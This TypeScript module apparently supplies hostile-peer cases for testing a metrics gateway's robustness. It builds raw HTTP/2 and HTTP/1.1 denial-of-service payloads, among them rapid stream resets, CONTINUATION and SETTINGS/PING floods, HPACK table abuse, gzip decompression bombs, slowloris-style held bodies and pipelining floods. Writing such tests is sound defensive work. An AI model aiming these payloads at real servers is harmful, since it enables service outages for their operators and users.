// Peers that want to do harm, by mode: what each sends first and then again and again, over HTTP/2 and HTTP/1.1.
import { gzipSync } from 'node:zlib';
import { literal } from '../hpack.js';
import { exportHeaders, FrameType, frame, PREFACE } from '../http2-frames.js';

/** What one connection of a mode sends; `round` counts from 0. Undefined: nothing more, the connection is held. */
export interface Attack {
  readonly transport: 'grpc' | 'http';
  /** It does not read what the gateway says. */
  readonly deaf?: boolean;
  readonly send: (round: number) => Buffer | undefined;
}

const END_STREAM = 1;
const END_HEADERS = 4;
const PADDED = 8;
const PRIORITY = 2;
const CONTINUATION = 9;
const MIB = 1 << 20;

const hello = (...settings: [id: number, value: number][]): Buffer =>
  Buffer.concat([PREFACE, frame(FrameType.SETTINGS, 0, 0, pairs(settings))]);

function pairs(settings: readonly [number, number][]): Buffer {
  const payload = Buffer.alloc(6 * settings.length);
  settings.forEach(([id, value], i) => {
    payload.writeUInt16BE(id, 6 * i);
    payload.writeUInt32BE(value, 6 * i + 2);
  });
  return payload;
}

const uint32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const prefix = (length: number): Buffer => Buffer.concat([Buffer.alloc(1), uint32(length)]);
const data = (stream: number, content: Uint8Array, flags = 0): Buffer => frame(FrameType.DATA, flags, stream, content);
const repeat = (count: number, one: (i: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, i) => one(i)));
const odd = (n: number): number => 2 * n + 1;
const empty = Buffer.alloc(0);

/** After SETTINGS and what `first` gives, the rounds of `again`. */
function grpc(
  again: (round: number) => Buffer | undefined,
  first: () => Buffer = () => empty,
  more: Partial<Attack> = {},
): Attack {
  const send = (round: number): Buffer | undefined =>
    round === 0 ? Buffer.concat([hello(), first()]) : again(round - 1);
  return { transport: 'grpc', ...more, send };
}

/** Fifty streams a round. */
const streams = (one: (id: number) => Buffer): Attack => grpc((round) => repeat(50, (i) => one(odd(50 * round + i))));

/** HEADERS of a complete call with other fields behind the usual ones. */
function call(id: number, fields: Uint8Array, flags = END_STREAM): Buffer {
  const block = Buffer.concat([exportHeaders(id).subarray(9), fields]);
  return frame(FrameType.HEADERS, END_HEADERS | flags, id, block);
}

/** Declares a body and sends it but for its end. */
function heldBody(streamCount: number, bytes: number): Attack {
  const chunk = Buffer.alloc(16_384, 0x0a);
  const first = (): Buffer =>
    repeat(streamCount, (i) => Buffer.concat([exportHeaders(odd(i)), data(odd(i), prefix(bytes))]));
  return grpc(
    (round) => (round < bytes / chunk.length - 1 ? repeat(streamCount, (i) => data(odd(i), chunk)) : undefined),
    first,
  );
}

const HEAD = 'POST /v1/metrics HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-protobuf\r\n';
const http = (head: string, again: (round: number) => Buffer | undefined): Attack => ({
  transport: 'http',
  send: (round) => (round === 0 ? Buffer.from(head) : again(round - 1)),
});

const bombOf = (mebibytes: number): Buffer => gzipSync(Buffer.alloc(mebibytes * MIB));
const bomb = bombOf(63);
const smallBomb = bombOf(900 / 1024);
/** Almost nothing comes out of it, and slowly. */
const emptyMembers = Buffer.concat(Array(3_000).fill(gzipSync('')));
const jsonBomb = gzipSync(`{"z":[${'{},'.repeat(5 * MIB)}1]}`);

/** A call whose message is this gzip. */
function gzipCall(id: number, gzip: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from([1]), uint32(gzip.length), gzip]);
  const pieces = repeat(Math.ceil(body.length / 16_000), (i) => {
    const end = 16_000 * (i + 1);
    return data(id, body.subarray(end - 16_000, end), end >= body.length ? END_STREAM : 0);
  });
  return Buffer.concat([call(id, literal('plain', 'grpc-encoding', 'gzip'), 0), pieces]);
}

/** A request on a connection on which others follow before it is answered. */
function httpRequest(path: string, body: Uint8Array, ...fields: string[]): Buffer {
  const head = [`POST ${path} HTTP/1.1`, 'host: x', ...fields, `content-length: ${body.length}`, '', ''];
  return Buffer.concat([Buffer.from(head.join('\r\n')), body]);
}

const JSON_TYPE = 'content-type: application/json';
const PROTOBUF_TYPE = 'content-type: application/x-protobuf';
const GZIP = 'content-encoding: gzip';
const pipelined = (count: number, request: Buffer): Attack => {
  const many = repeat(count, () => request);
  return { transport: 'http', send: () => many };
};

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'streams opened and given up': streams((id) =>
    Buffer.concat([exportHeaders(id), frame(FrameType.RST_STREAM, 0, id, uint32(8))]),
  ),
  'more streams than allowed': streams((id) => exportHeaders(id)),
  'windows opened too far': streams((id) =>
    Buffer.concat([exportHeaders(id), repeat(2, () => frame(FrameType.WINDOW_UPDATE, 0, id, uint32(2 ** 31 - 1)))]),
  ),
  'fields in upper case': streams((id) => call(id, literal('plain', 'X-UP', '1'))),
  'fields that are never whole': grpc(
    () => repeat(20, () => frame(CONTINUATION, 0, 1, Buffer.alloc(4_000))),
    () => frame(FrameType.HEADERS, 0, 1, exportHeaders(1).subarray(9)),
  ),
  'fields out of a table': grpc(
    (round) => call(odd(round + 1), Buffer.alloc(16_000, 0xbe)),
    () => call(1, Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4_000, 0x62)])),
  ),
  'tables made anew': streams((id) =>
    call(
      id,
      repeat(120, () => Buffer.from([0x40, 1, 0x61, 0])),
    ),
  ),
  settings: grpc(() => repeat(50, () => frame(FrameType.SETTINGS, 0, 0, pairs(Array(10).fill([4, 65_535]))))),
  'settings, not reading': grpc(
    () => repeat(500, () => frame(FrameType.SETTINGS, 0, 0, pairs([[4, 65_535]]))),
    undefined,
    { deaf: true },
  ),
  pings: grpc(() => repeat(200, () => frame(FrameType.PING, 0, 0, Buffer.alloc(8)))),
  'pings, not reading': grpc(() => repeat(500, () => frame(FrameType.PING, 0, 0, Buffer.alloc(8))), undefined, {
    deaf: true,
  }),
  'DATA without data': grpc(
    () => repeat(2_000, () => data(1, empty)),
    () => exportHeaders(1),
  ),
  'DATA of one octet': grpc(
    () => repeat(4_000, (i) => data(odd(i % 8), Buffer.from([1]))),
    () => repeat(8, (i) => Buffer.concat([exportHeaders(odd(i)), data(odd(i), prefix(8 * MIB))])),
  ),
  'padded DATA': grpc(
    () => repeat(100, () => data(1, Buffer.alloc(257, 255).fill(0, 2), PADDED)),
    () => Buffer.concat([exportHeaders(1), data(1, prefix(8 * MIB))]),
  ),
  priorities: grpc((round) => repeat(300, (i) => frame(PRIORITY, 0, odd(300 * round + i), Buffer.alloc(5)))),
  'unknown frames': grpc(() => repeat(2_000, () => frame(0xfa, 0, 0))),
  'unknown frames of a megabyte': grpc(() => frame(0xfa, 0, 3, Buffer.alloc(1_000_000))),
  'windows opened octet by octet': grpc(() => repeat(2_000, () => frame(FrameType.WINDOW_UPDATE, 0, 0, uint32(1)))),
  'bodies held at their end': heldBody(20, 8 * MIB - 5),
  'gzip bombs': grpc((round) => gzipCall(odd(round), bomb)),
  'gzip bombs, small': grpc((round) => repeat(50, (i) => gzipCall(odd(50 * round + i), smallBomb))),
  'gzip without content': grpc((round) => gzipCall(odd(round), emptyMembers)),
  'HTTP: a body held at its end': http(`${HEAD}content-length: ${8 * MIB}\r\n\r\n`, (round) =>
    round < 127 ? Buffer.alloc(65_536, 0x0a) : undefined,
  ),
  'HTTP: a body by the octet': http(`${HEAD}content-length: 1000\r\n\r\n`, (round) =>
    round < 3 ? Buffer.from('\n') : undefined,
  ),
  'HTTP: chunks without end': http(`${HEAD}transfer-encoding: chunked\r\n\r\n`, () =>
    Buffer.from(`10000\r\n${'x'.repeat(65_536)}\r\n`),
  ),
  'HTTP: chunks of one octet': http(`${HEAD}transfer-encoding: chunked\r\n\r\n`, () =>
    Buffer.from('1\r\nx\r\n'.repeat(4_000)),
  ),
  'HTTP: requests before the answers': pipelined(200, httpRequest('/v1/metrics', Buffer.from('{}'), JSON_TYPE)),
  'HTTP: requests to nowhere': pipelined(200, httpRequest('/v2', empty)),
  'HTTP: gzip bombs': pipelined(1, httpRequest('/v1/metrics', bomb, PROTOBUF_TYPE, GZIP)),
  'HTTP: gzip bombs, small': pipelined(50, httpRequest('/v1/metrics', smallBomb, PROTOBUF_TYPE, GZIP)),
  'HTTP: gzip bombs of JSON': pipelined(1, httpRequest('/v1/metrics', jsonBomb, JSON_TYPE, GZIP)),
  'HTTP: one string': pipelined(
    1,
    httpRequest('/v1/metrics', Buffer.from(`{"z":"${'y'.repeat(60 * MIB)}"}`), JSON_TYPE),
  ),
  'HTTP: fields without end': http('POST /v1/metrics HTTP/1.1\r\nhost: x\r\n', () =>
    Buffer.from(`x-a: ${'b'.repeat(60_000)}\r\n`),
  ),
};
